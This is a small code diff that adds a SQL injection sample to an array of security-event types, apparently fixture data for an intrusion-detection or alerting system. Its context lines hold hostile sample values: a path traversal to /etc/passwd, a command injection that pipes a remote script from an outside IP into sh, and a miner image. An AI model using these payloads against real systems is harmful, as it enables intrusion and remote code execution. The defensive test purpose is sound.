@@ -7,6 +7,7 @@ const kinds = [
   ['brute_force', 'high', 10, 300, ''],
   ['path_traversal', 'high', 1, 60, '/static/..%2f..%2f..%2fetc%2fpasswd'],
   ['command_injection', 'critical', 1, 60, 'name=a;curl -s http://198.51.100.9/x|sh'],
+  ['web_attack', 'high', 1, 60, "sql injection: ' or '1'='1"],
   ['rate_limit_exceeded', 'medium', 1, 60, '/api/search'],
   ['suspicious_container', 'high', 1, 60, 'registry.example/miner:latest'],
   ['privilege_escalation', 'critical', 1, 60, 'alpine:3.20'],
